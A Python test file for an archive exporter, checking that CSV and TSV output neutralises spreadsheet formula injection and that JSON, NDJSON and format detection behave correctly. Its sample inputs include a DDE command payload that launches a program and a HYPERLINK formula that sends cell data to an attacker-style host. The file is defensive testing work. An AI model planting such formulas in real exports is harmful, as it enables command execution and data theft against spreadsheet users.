from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from archive.export.delimited import csv_pieces, defused, tsv_pieces
from archive.export.formats import FORMATS, format_of
from archive.export.manner import Manner
from archive.export.objects import json_pieces, ndjson_pieces
from archive.faults import UsageFault

FORMULAS = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\tx",
    "\rx",
    "\nx",
    "  =1",
    "\u00a0=1",
    "\ufeff=1",
    "＝1",
    " ＋1",
    "－1",
    "＠x",
    "-",
    '"=1',
    "\u200f\u2060=1",
    "\x01+1",
    "\u202e@x",
    "−1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?"&A1)',
]
TEXTS = ["1-1", "a=b", "'=1", "C++", "", " ", "(=1)", "–dash", "x -1", "a, -b", "x\ny=1", "5 − 3", "a;b"]
WITHIN = {
    "x\n=1": "x\n'=1",
    "x\r\n\r\n  @y": "x\r\n\r\n  '@y",
    "x\t=1": "x\t'=1",
    "x;=1": "x;'=1",
    'x; "=1"': 'x; "\'=1"',
    "x\u2028-1": "x\u2028'-1",
    "a;;+1;=2": "a;;'+1;'=2",
    "\n\n-1": "'\n\n'-1",
    "\x85=1": "\x85'=1",
}
"""Text with what becomes a formula where a program splits cells and rows elsewhere than we do."""


def written(pieces: Any, rows: list[dict[str, Any]], *, raw: bool = False) -> str:
    return "".join(pieces(iter(rows), Manner(fields=tuple(rows[0]) if rows else ("a",), raw=raw)))


def cells(text: str, delimiter: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))


@pytest.mark.parametrize("text", FORMULAS)
@pytest.mark.parametrize(("write", "delimiter"), [(csv_pieces, ","), (tsv_pieces, "\t")])
def test_a_formula_is_defused_and_raw_leaves_it(write: Any, delimiter: str, text: str) -> None:
    assert cells(written(write, [{"a": text, "b": 1}]), delimiter)[1] == ["'" + text, "1"]
    assert cells(written(write, [{"a": text, "b": 1}], raw=True), delimiter)[1] == [text, "1"]


@pytest.mark.parametrize("text", WITHIN)
@pytest.mark.parametrize(("write", "delimiter"), [(csv_pieces, ","), (tsv_pieces, "\t")])
def test_a_formula_within_a_cell_is_defused_too(write: Any, delimiter: str, text: str) -> None:
    assert cells(written(write, [{"a": text, "b": 1}]), delimiter)[1] == [WITHIN[text], "1"]
    assert cells(written(write, [{"a": text, "b": 1}], raw=True), delimiter)[1] == [text, "1"]


@pytest.mark.parametrize("text", TEXTS)
def test_other_text_is_left_as_it_is(text: str) -> None:
    assert cells(written(csv_pieces, [{"a": text, "b": 1}]))[1] == [text, "1"]


def test_lists_are_joined_and_a_formula_in_front_is_defused() -> None:
    assert cells(written(csv_pieces, [{"a": ["x", "=y"], "b": ["=x"], "c": []}]))[1] == ["x; '=y", "'=x", ""]


def test_numbers_stay_numbers_and_null_is_empty() -> None:
    assert written(csv_pieces, [{"a": -5, "b": None}]) == "a,b\r\n-5,\r\n"


def test_rows_end_as_rfc_4180_says_and_those_of_tsv_in_a_bare_newline() -> None:
    rows = [{"a": 'say "x"', "b": "two\nlines", "c": "x,y\tz"}]
    assert written(csv_pieces, rows) == 'a,b,c\r\n"say ""x""","two\nlines","x,y\tz"\r\n'
    assert written(tsv_pieces, rows) == 'a\tb\tc\n"say ""x"""\t"two\nlines"\t"x,y\tz"\n'


def test_a_nul_is_left_out_and_hides_no_formula() -> None:
    assert written(csv_pieces, [{"a": "x\0y", "b": "\0=1"}]) == "a,b\r\nxy,'=1\r\n"
    assert written(csv_pieces, [{"a": "x\0y"}], raw=True) == "a\r\nx\0y\r\n"


@given(st.lists(st.lists(st.text(st.characters(exclude_categories=["Cs"])), min_size=2, max_size=3)))
def test_any_text_comes_back_from_both(table: list[list[str]]) -> None:
    rows = [dict(zip("abc", [*row, "z"], strict=False)) for row in table]
    rows = [{"a": "", "b": "", "c": ""} | row for row in rows]
    expected = [list(row.values()) for row in rows]
    assert cells(written(csv_pieces, rows, raw=True))[1:] == expected
    assert cells(written(tsv_pieces, rows, raw=True), "\t")[1:] == expected


@given(st.text(st.characters(exclude_categories=["Cs"])))
def test_no_cell_begins_as_a_formula(text: str) -> None:
    [[_], [cell, _]] = [
        row[:1] if row == ["a", "b"] else row for row in cells(written(csv_pieces, [{"a": text, "b": 0}]))
    ]
    for part in re.split("[;\n\r\t\v\f\x85\u2028\u2029]", cell):
        assert part.lstrip('\ufeff\u200b"\x01 \xa0')[:1] not in tuple("=+-@＝＋－＠")
    assert cell.replace("'", "") == text.replace("\0", "").replace("'", "")


def test_the_time_to_defuse_is_linear() -> None:
    for text in ("\n" * 1_000_000, " ;" * 500_000 + "a", "a;" * 500_000):
        assert defused(text).strip("'") == text


@pytest.mark.parametrize("count", [0, 1, 3])
def test_json_is_one_array_and_ndjson_an_object_a_line(count: int) -> None:
    rows = [
        {"id": id_, "title": "Ünïcode – 约\u2028\nnew", "tags": ["a"], "image": None} for id_ in range(count)
    ]
    text = written(json_pieces, rows)
    assert json.loads(text) == rows
    assert text.endswith("]\n")
    lines = written(ndjson_pieces, rows)
    assert [json.loads(line) for line in lines.split("\n")[:-1]] == rows
    assert count == 0 or "Ünïcode – 约" in lines


@pytest.mark.parametrize(
    ("name", "path", "expected"),
    [
        (None, None, "csv"),
        (None, "posts", "csv"),
        (None, "posts.CSV", "csv"),
        (None, "posts.tsv", "tsv"),
        (None, "posts.json", "json"),
        (None, "posts.jsonl", "ndjson"),
        (None, "posts.ndjson", "ndjson"),
        ("json", "posts.csv", "json"),
        ("tsv", "posts.xlsx", "tsv"),
    ],
)
def test_the_format_is_the_one_named_or_what_the_ending_says(
    name: str | None, path: str | None, expected: str
) -> None:
    assert format_of(name, Path(path) if path else None) is FORMATS[expected]


@pytest.mark.parametrize(("name", "path"), [("xml", None), (None, "posts.xlsx"), ("CSV", "posts.csv")])
def test_an_unknown_format_names_the_valid_ones(name: str | None, path: str | None) -> None:
    with pytest.raises(UsageFault, match="csv, tsv, json, ndjson"):
        format_of(name, Path(path) if path else None)
